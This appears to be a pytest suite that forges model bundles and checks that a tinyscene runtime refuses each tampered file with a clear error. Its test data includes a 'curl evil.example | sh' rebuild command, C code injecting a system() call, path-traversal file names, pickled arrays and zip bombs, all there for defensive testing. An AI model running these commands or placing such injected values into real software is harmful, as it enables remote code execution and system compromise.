"""Bundles from an attacker, whose digests all fit: each is refused when it is read, with the file and the field."""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from tests.graphs import Builder
from tinyscene.runtime.bundle import Bundle, BundleContent, Golden, read_bundle, write_bundle
from tinyscene.runtime.errors import RuntimeFailure
from tinyscene.runtime.file_names import GOLDEN_VECTORS, GRAPH_ARRAYS, GRAPH_RECORD, MANIFEST
from tinyscene.runtime.json_files import DEEPEST_NESTING, LARGEST_JSON_BYTES
from tinyscene.runtime.manifest import LARGEST_MANIFEST_BYTES, REBUILD, Provenance, json_bytes
from tinyscene.runtime.npz import pack_arrays
from tinyscene.runtime.spec import preset

C_TEXT = (
    "average_pool(&layer_0, input, arena + 0); extern int system(const char*); "
    'if (system("touch /tmp/owned")) {} ts_average'
)
FRONTEND = replace(preset("cpm23"), name="small", n_mels=12, hop_length=2400, clip_samples=16_801)  # 8 frames
Change = Callable[[dict[str, Any]], object]


def _content() -> BundleContent:
    b = Builder(np.random.default_rng(0), "pooled", (12, 8, 1))
    x = b.conv(b.input, (3, 3), channels=4, pads=(1, 1, 1, 1), relu=True)
    x = b.pool(b.lookup(x, "requantise"), "average", (2, 2), stride=(2, 2))
    graph = b.graph(b.mean(b.conv(x, (1, 1), channels=3), keep_dims=False))
    graph = replace(graph, labels=("bus", "park", "tram"))
    codes = np.random.default_rng(1).integers(-128, 128, (2, 12, 8, 1)).astype(np.int8)
    return BundleContent(graph, FRONTEND, b"TFL3", b"onnx", Golden.of(graph, codes))


@pytest.fixture(scope="module")
def original(tmp_path_factory: pytest.TempPathFactory) -> Bundle:
    provenance = Provenance("noise", {}, rebuild="curl evil.example | sh")
    return write_bundle(tmp_path_factory.mktemp("original") / "bundle", _content(), provenance)


@pytest.fixture
def bundle(original: Bundle, tmp_path: Path) -> Path:
    return shutil.copytree(original.path, tmp_path / "bundle")


def forge(bundle: Path, name: str, data: bytes) -> None:
    """Replace a file, and recompute its digest and the manifest's."""
    (bundle / name).write_bytes(data)
    forge_manifest(bundle, lambda record: record["files"].update({name: _entry(data)}))


def forge_manifest(bundle: Path, change: Change) -> None:
    record = json.loads((bundle / MANIFEST).read_text())
    change(record)
    record.pop("digest", None)
    digest = hashlib.sha256(json_bytes(record)).hexdigest()
    (bundle / MANIFEST).write_bytes(json_bytes({**record, "digest": digest}))


def _entry(data: bytes) -> dict[str, object]:
    return {"bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()}


def forge_graph(bundle: Path, change: Change) -> None:
    record = json.loads((bundle / GRAPH_RECORD).read_text())
    change(record)
    forge(bundle, GRAPH_RECORD, json_bytes(record))


def refusal(bundle: Path) -> str:
    with pytest.raises(RuntimeFailure) as refused:
        read_bundle(bundle).golden()
    return str(refused.value)


def test_a_forged_bundle_without_a_change_is_read(bundle: Path) -> None:
    forge_graph(bundle, lambda record: None)
    assert read_bundle(bundle).golden().inputs.shape == (2, 12, 8, 1)


def test_c_text_as_the_kind_of_a_pool_is_refused(bundle: Path) -> None:
    forge_graph(bundle, lambda record: record["nodes"][2].update(kind=C_TEXT))
    message = refusal(bundle)
    assert f"{GRAPH_RECORD}, nodes[2] (pool2d), kind: unknown value; expected 'max' or 'average'" in message
    assert f"next: build it again with '{REBUILD}'" in message


WORDS: dict[str, Change] = {
    "op": lambda r: r["nodes"][0].update(op=C_TEXT),
    "another op's name": lambda r: r["nodes"][0].update(op="softmax"),
    "function": lambda r: r["nodes"][1].update(function=C_TEXT),
    "over": lambda r: r["nodes"][-1].update(over="time"),
    "dtype": lambda r: r["tensors"][0].update(dtype="int16"),
    "input": lambda r: r.update(inputs=[C_TEXT]),
    "an input twice": lambda r: r.update(inputs=2 * r["inputs"]),
    "an output twice": lambda r: r.update(outputs=2 * r["outputs"]),
    "an input as output": lambda r: r.update(outputs=r["inputs"]),
    "no outputs": lambda r: r.update(outputs=[]),
    "17 inputs": lambda r: r.update(inputs=[f"x{n}" for n in range(17)]),
    "a name with a NUL": lambda r: r["nodes"][0].update(name="a\0b"),
    "an empty name": lambda r: r.update(name=""),
    "a long name": lambda r: r.update(name="x" * 300),
    "a long label": lambda r: r["labels"].__setitem__(0, "x" * 300),
    "a label with a NUL": lambda r: r["labels"].__setitem__(0, "bus\0"),
    "a label that is a number": lambda r: r["labels"].__setitem__(0, 1),
    "a surrogate": lambda r: r["labels"].__setitem__(0, "\ud800"),
    "labels as text": lambda r: r.update(labels="abc"),
    "two labels": lambda r: r["labels"].pop(),
    "a number as name": lambda r: r["tensors"][0].update(name=1),
    "two nodes of one name": lambda r: r["nodes"][1].update(name=r["nodes"][0]["name"]),
    "two tensors of one name": lambda r: r["tensors"].append(r["tensors"][0]),
}


@pytest.mark.parametrize("change", WORDS.values(), ids=WORDS)
def test_a_word_outside_its_list_is_refused(bundle: Path, change: Change) -> None:
    forge_graph(bundle, change)
    assert GRAPH_RECORD in refusal(bundle) or "graph 'pooled'" in refusal(bundle)


NUMBERS: dict[str, Change] = {
    "a scale that is an integer beyond 64 bits": lambda r: next(
        t for t in r["tensors"] if t["quant"]["axis"] is not None
    )["quant"]["scale"].__setitem__(0, 2**70),
    "negative pad": lambda r: r["nodes"][0].update(pads=[-1, 1, 1, 1]),
    "three pads": lambda r: r["nodes"][0].update(pads=[1, 1, 1]),
    "five pads": lambda r: r["nodes"][0].update(pads=[1, 1, 1, 1, 1]),
    "pads as one number": lambda r: r["nodes"][0].update(pads=1),
    "pad of 2^40": lambda r: r["nodes"][0].update(pads=[2**40, 1, 1, 1]),
    "stride 0": lambda r: r["nodes"][0].update(stride=[0, 1]),
    "stride 2^31": lambda r: r["nodes"][2].update(stride=[2**31, 2]),
    "stride of 1.0": lambda r: r["nodes"][0].update(stride=[1.0, 1]),
    "stride of true": lambda r: r["nodes"][0].update(stride=[True, True]),
    "kernel 0": lambda r: r["nodes"][2].update(kernel=[0, 2]),
    "relu of 1": lambda r: r["nodes"][0].update(relu=1),
    "keep_dims of null": lambda r: r["nodes"][-1].update(keep_dims=None),
    "four inputs": lambda r: r["nodes"][0]["inputs"].append("input"),
    "one input": lambda r: r["nodes"][0].update(inputs=["input"]),
    "an attribute more": lambda r: r["nodes"][0].update(dilations=[1, 1]),
    "an attribute missing": lambda r: r["nodes"][0].pop("stride"),
    "a node that is a list": lambda r: r["nodes"].__setitem__(0, []),
    "no nodes": lambda r: r.update(nodes=[]),
    "a field missing": lambda r: r.pop("outputs"),
    "shape of true": lambda r: r["tensors"][0].update(shape=[True, 12, 8, 1]),
    "shape of 2^62": lambda r: r["tensors"][0].update(shape=[1, 2**62, 2**62, 2**62]),
    "shape of 2^31": lambda r: r["tensors"][0].update(shape=[1, 2**31, 1, 1]),
    "shape of zero": lambda r: r["tensors"][0].update(shape=[1, 0, 8, 1]),
    "no shape": lambda r: r["tensors"][0].update(shape=[]),
    "nine axes": lambda r: r["tensors"][0].update(shape=[1] * 9),
    "zero point 128": lambda r: r["tensors"][0]["quant"].update(zero_point=128),
    "zero point 1.5": lambda r: r["tensors"][0]["quant"].update(zero_point=1.5),
    "axis 7": lambda r: r["tensors"][1]["quant"].update(axis=7),
    "axis 4 of a bias": lambda r: next(t for t in r["tensors"] if t["dtype"] == "int32")["quant"].update(axis=4),
    "negative axis": lambda r: r["tensors"][1]["quant"].update(axis=-4),
    "no scale": lambda r: r["tensors"][0]["quant"].update(scale=[]),
    "scale of true": lambda r: r["tensors"][0]["quant"].update(scale=[True]),
    "scale of text": lambda r: r["tensors"][0]["quant"].update(scale=["1"]),
    "scale of 1e-44": lambda r: r["tensors"][0]["quant"].update(scale=[float(np.float32(1e-44))]),
    "scale of 1e38": lambda r: r["tensors"][0]["quant"].update(scale=[float(np.float32(1e38))]),
    "scale of an enormous integer": lambda r: r["tensors"][0]["quant"].update(scale=[10**400]),
    "constant of 1": lambda r: r["tensors"][1].update(constant=1),
    "a constant as activation": lambda r: r["tensors"][1].update(constant=False),
    "2000 nodes": lambda r: r.update(nodes=r["nodes"] * 600),
}


@pytest.mark.parametrize("change", NUMBERS.values(), ids=NUMBERS)
def test_a_number_out_of_range_is_refused(bundle: Path, change: Change) -> None:
    forge_graph(bundle, change)
    message = refusal(bundle)
    assert GRAPH_RECORD in message or GRAPH_ARRAYS in message or "graph 'pooled'" in message


def _deep(levels: int) -> bytes:
    return b'{"a":' * levels + b"1" + b"}" * levels


TEXTS = {
    "empty": b"",
    "not UTF-8": b'{"name": "\xff"}',
    "UTF-16": '{"name": "x"}'.encode("utf-16"),
    "NaN": b'{"name": NaN}',
    "Infinity": b'{"name": -Infinity}',
    "1e999": b'{"name": 1e999}',
    "an integer of 10,000 digits": b'{"name": ' + b"9" * 10_000 + b"}",
    "a key twice": b'{"name": "a", "name": "b"}',
    "a surrogate": b'{"name": "\\ud83d"}',
    "a surrogate as key": b'{"\\ud83d": 1}',
    "deep": _deep(DEEPEST_NESTING + 1),
    "very deep objects": _deep(100_000),
    "very deep lists": b"[" * 100_000 + b"]" * 100_000,
    "a million lists": b"[" + b"[]," * 999_999 + b"[]]",
    "a list": b"[]",
    "a number": b"1",
    "text behind it": b"{} {}",
}


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
@pytest.mark.parametrize("name", [GRAPH_RECORD, MANIFEST])
def test_json_of_another_form_is_refused(bundle: Path, name: str, text: bytes) -> None:
    if name == MANIFEST:
        (bundle / MANIFEST).write_bytes(text)
    else:
        forge(bundle, name, text)
    assert name in refusal(bundle)


def test_large_files_are_refused_before_they_are_read(bundle: Path) -> None:
    with (bundle / GRAPH_RECORD).open("r+b") as file:
        file.truncate(10 * 2**30)  # sparse
    assert "graph.json: changed" in refusal(bundle)
    forge_manifest(bundle, lambda record: record["files"][GRAPH_RECORD].update(bytes=10 * 2**30))
    assert "files.graph.json.bytes: out of range" in refusal(bundle)
    forge(bundle, GRAPH_RECORD, b" " * (LARGEST_JSON_BYTES + 1))
    assert "graph.json: too large" in refusal(bundle)
    with (bundle / MANIFEST).open("r+b") as file:
        file.truncate(10 * 2**30)
    assert f"too large; expected at most {LARGEST_MANIFEST_BYTES:,} bytes" in refusal(bundle)


def _as_pipe(path: Path) -> None:
    os.mkfifo(path)


def _as_link(path: Path) -> None:
    path.symlink_to("/dev/zero")


@pytest.mark.parametrize("make", [_as_pipe, _as_link, Path.mkdir], ids=["pipe", "link", "folder"])
@pytest.mark.parametrize("name", [GRAPH_RECORD, MANIFEST])
def test_what_is_not_a_regular_file_is_refused(bundle: Path, name: str, make: Callable[[Path], None]) -> None:
    (bundle / name).unlink()
    make(bundle / name)
    message = refusal(bundle)
    assert (f"{name}: missing from the bundle as a regular file" in message) or "not a bundle" in message


def test_many_files_are_refused(bundle: Path) -> None:
    for number in range(70):
        (bundle / f"extra{number}").touch()
    assert "not a file of this bundle" in refusal(bundle)
    forge_manifest(bundle, lambda r: r["files"].update({f"extra{n}": _entry(b"") for n in range(70)}))
    assert "files: wrong number of entries; expected 0 to 64 entries; got 75" in refusal(bundle)


@pytest.mark.parametrize("name", ["../outside", "/etc/passwd", ".hidden", "a\0b", "a\\b", ""])
def test_a_file_name_with_a_path_is_refused(bundle: Path, name: str) -> None:
    forge_manifest(bundle, lambda record: record["files"].update({name: _entry(b"")}))
    assert "files: invalid text; expected a plain file name" in refusal(bundle)


def test_the_text_of_a_manifest_is_no_advice(bundle: Path) -> None:
    (bundle / "surprise").touch()
    assert "evil.example" not in refusal(bundle)
    (bundle / "surprise").unlink()
    forge_manifest(bundle, lambda record: record.update(rebuild=1))
    assert "rebuild: wrong type" in refusal(bundle)
    assert f"next: build it again with '{REBUILD}', or copy it again from its source" in refusal(bundle)


def _archive(members: dict[str, bytes], **options: Any) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, **options) as archive:
        for name, data in members.items():
            archive.writestr(f"{name}.npy", data)
    return buffer.getvalue()


def _member(array: np.ndarray, *, pickle: bool = False) -> bytes:
    buffer = io.BytesIO()
    np.lib.format.write_array(buffer, array, allow_pickle=pickle)
    return buffer.getvalue()


def _arrays(path: Path) -> dict[str, np.ndarray]:
    with np.load(path) as file:
        return dict(file)


def _unlike(data: bytes, needle: bytes, change: int, at: int = 0) -> bytes:
    """The file with one byte changed, behind each occurrence of ``needle``."""
    pieces = data.split(needle)
    return needle.join([pieces[0], *(p[:at] + bytes([p[at] ^ change]) + p[at + 1 :] for p in pieces[1:])])


def _hostile_archives(arrays: dict[str, np.ndarray]) -> dict[str, bytes]:
    first, array = next(iter(arrays.items()))
    others = {key: value for key, value in arrays.items() if key != first}
    members = {key: _member(value) for key, value in arrays.items()}
    whole = pack_arrays(arrays)
    wide = np.zeros((*array.shape[:-1], array.shape[-1] + 1), np.int8)
    header = members[first].replace(b"(", b"(9", 1)
    return {
        "missing": pack_arrays(others),
        "one more": pack_arrays({**arrays, "more": array}),
        "another type": pack_arrays({**others, first: array.astype(np.int64)}),
        "another shape": pack_arrays({**others, first: wide}),
        "objects": _archive({**members, first: _member(np.array([{}], object), pickle=True)}),
        "big-endian": _archive({**members, first: _member(array.astype(">i4"))}),
        "Fortran order": _archive({**members, first: _member(np.asfortranarray(np.zeros((2, 3), np.int8)))}),
        "cut": _archive({**members, first: members[first][:-1]}),
        "longer": _archive({**members, first: members[first] + b"\0"}),
        "a header that lies": _archive({**members, first: header}),
        "a header of code": _archive({**members, first: members[first].replace(b"False", b"exit()")}),
        "version 9": _archive({**members, first: members[first].replace(b"NUMPY\x01", b"NUMPY\x09")}),
        "no array": _archive({**members, first: b""}),
        "checksum": _unlike(whole, b"PK\x01\x02", 1, 12),
        "encrypted": _unlike(whole, b"PK\x01\x02", 1, 4),
        "method 99": _unlike(whole, b"PK\x01\x02", 99, 6),
        "a smaller size": _unlike(whole, b"PK\x01\x02", 0x80, 20),
        "a size of 2 GiB": _unlike(whole, b"PK\x01\x02", 0x7F, 23),
        "offsets": _unlike(whole, b"PK\x01\x02", 0x7F, 41),
        "no zip": zlib.compress(whole),
        "cut zip": whole[:-30],
        "empty": b"",
    }


KINDS = _hostile_archives({"a": np.zeros(3, np.int8)})


@pytest.mark.parametrize("name", [GRAPH_ARRAYS, GOLDEN_VECTORS])
@pytest.mark.parametrize("kind", KINDS)
def test_arrays_that_are_not_declared_are_refused(bundle: Path, kind: str, name: str) -> None:
    forge(bundle, name, _hostile_archives(_arrays(bundle / name))[kind])
    assert name in refusal(bundle)


def test_two_members_of_one_name_are_refused(bundle: Path) -> None:
    arrays = _arrays(bundle / GRAPH_ARRAYS)
    name, array = next(iter(arrays.items()))
    buffer = io.BytesIO(pack_arrays(arrays))
    with zipfile.ZipFile(buffer, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr(f"{name}.npy", _member(array))
    forge(bundle, GRAPH_ARRAYS, buffer.getvalue())
    assert "not a file of plain arrays" in refusal(bundle)


@pytest.mark.parametrize("name", [GRAPH_ARRAYS, GOLDEN_VECTORS])
def test_a_zip_bomb_takes_no_memory(bundle: Path, name: str) -> None:
    """16 MiB of zeros in 16 kB; also where the header has the declared shape and only the data is longer."""
    tracemalloc = pytest.importorskip("tracemalloc")
    arrays = _arrays(bundle / name)
    first, array = next(iter(arrays.items()))
    members = {key: _member(value) for key, value in arrays.items()}
    zeros = bytes(2**24)
    for bomb in (members[first] + zeros, _member(np.zeros((2**24,), np.int8))):
        forge(bundle, name, _archive({**members, first: bomb}))
        tracemalloc.start()
        message = refusal(bundle)
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert name in message
        assert peak < 2**21
    assert array.nbytes < 2**20


@pytest.mark.parametrize("vectors", [0, 65])
def test_the_number_of_golden_vectors_is_bounded(bundle: Path, vectors: int) -> None:
    arrays = {
        key: np.zeros((vectors, *array.shape[1:]), np.int8) for key, array in _arrays(bundle / GOLDEN_VECTORS).items()
    }
    forge(bundle, GOLDEN_VECTORS, pack_arrays(arrays))
    assert "number of golden vectors; expected 1 to 64" in refusal(bundle)


def test_a_front_end_of_another_network_is_refused(bundle: Path) -> None:
    forge_manifest(bundle, lambda record: record["frontend"].update(n_mels=13))
    assert r"front end's (mel, time) do not fit the graph; expected (12, 8); got (13, 8)" in refusal(bundle)
